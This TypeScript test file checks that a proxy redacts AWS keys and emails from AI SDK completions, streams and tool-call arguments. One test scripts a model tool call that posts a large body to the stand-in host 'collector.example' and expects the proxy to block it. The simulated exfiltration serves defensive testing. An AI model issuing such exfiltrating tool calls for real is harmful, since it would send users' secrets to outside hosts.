// Vercel's AI SDK, through the real Envoy and the policies as they ship: by chat completions and by responses.
import { createOpenAI } from '@ai-sdk/openai';
import { generateText, type LanguageModel, streamText, tool } from 'ai';
import { describe, expect, test } from 'vitest';
import { z } from 'zod';
import { podKey } from '../main-job/clients.ts';
import { installation, type Scripted } from '../main-job/installation.ts';
import { callChunks, chunk, chunks, completion, done, json, sse } from '../main-job/openai-says.ts';
import { all } from '../main-job/outcomes.ts';
import { awsKey, email, leaks } from '../main-job/samples.ts';
import { responded, respondedEvents } from './responses-says.ts';

const penstock = installation();
const told = `The key is ${awsKey}, ask ${email}.`;
const masked = /^The key is \[REDACTED:aws-access-key\], ask <EMAIL_[0-9A-Z]{4}>\.$/;

function provider({ headers }: Scripted): ReturnType<typeof createOpenAI> {
  return createOpenAI({ apiKey: podKey, baseURL: `http://127.0.0.1:${penstock.port}/v1`, headers });
}

function ask(model: LanguageModel): Parameters<typeof generateText>[0] {
  return { model, prompt: 'hello', maxRetries: 0 };
}

describe("Vercel's AI SDK", () => {
  test('gets a completion with its secrets replaced', async () => {
    const { text } = await generateText(ask(provider(penstock.script(json(completion(told)))).chat('gpt-4o')));
    expect(text).toMatch(masked);
  });

  test('streams a completion with its secrets replaced wherever deltas cut them', async () => {
    for (const size of [1, 5, 200]) {
      const { textStream } = streamText(ask(provider(penstock.script(sse([...chunks(told, size), done]))).chat('gpt-4o')));
      expect((await all(textStream)).join('')).toMatch(masked);
    }
  });

  test('gets a response of the newer API with its secrets replaced', async () => {
    const { text } = await generateText(ask(provider(penstock.script(json(responded(told)))).responses('gpt-4o')));
    expect(text).toMatch(masked);
  });

  test('streams a response, in whose repeats nothing is told either', async () => {
    const result = streamText(ask(provider(penstock.script(sse(respondedEvents(told, 3)))).responses('gpt-4o')));
    const parts = await all(result.fullStream);
    expect(parts.flatMap(part => (part.type === 'text-delta' ? [part.text] : [])).join('')).toMatch(masked);
    expect(leaks(JSON.stringify(parts))).toEqual([]);
  });

  test('runs the tool of a stream with arguments that were masked and still parse', async () => {
    const call = callChunks({ at: 0, name: 'save', arguments: { note: `"${awsKey}"`, n: 1 } }, 3);
    const script = penstock.script(
      sse([chunk({ role: 'assistant', content: null }), ...call, chunk({}, { finish: 'tool_calls' }), done]),
    );
    const seen: unknown[] = [];
    const save = tool({
      description: 'keeps a note',
      inputSchema: z.object({ note: z.string(), n: z.number() }),
      execute: async input => {
        seen.push(input);
        return 'kept';
      },
    });
    await streamText({ ...ask(provider(script).chat('gpt-4o')), tools: { save } }).consumeStream();
    expect(seen).toEqual([{ note: '"[REDACTED:aws-access-key]"', n: 1 }]);
  });

  test('tells in its stream that an answer was blocked, and why', async () => {
    const call = { at: 0, name: 'http_post', arguments: { url: 'https://collector.example/in', body: 'x'.repeat(5_000) } };
    const script = penstock.script(
      sse([...chunks('First some words.', 4).slice(0, -1), ...callChunks(call, 500), chunk({}, { finish: 'tool_calls' }), done]),
    );
    const errors: unknown[] = [];
    const result = streamText({ ...ask(provider(script).chat('gpt-4o')), onError: ({ error }) => void errors.push(error) });
    const text = (await all(result.textStream)).join('');
    expect('First some words.').toContain(text);
    expect(JSON.stringify(errors)).toContain('a tool call sends a large body to an external host');
  });
});
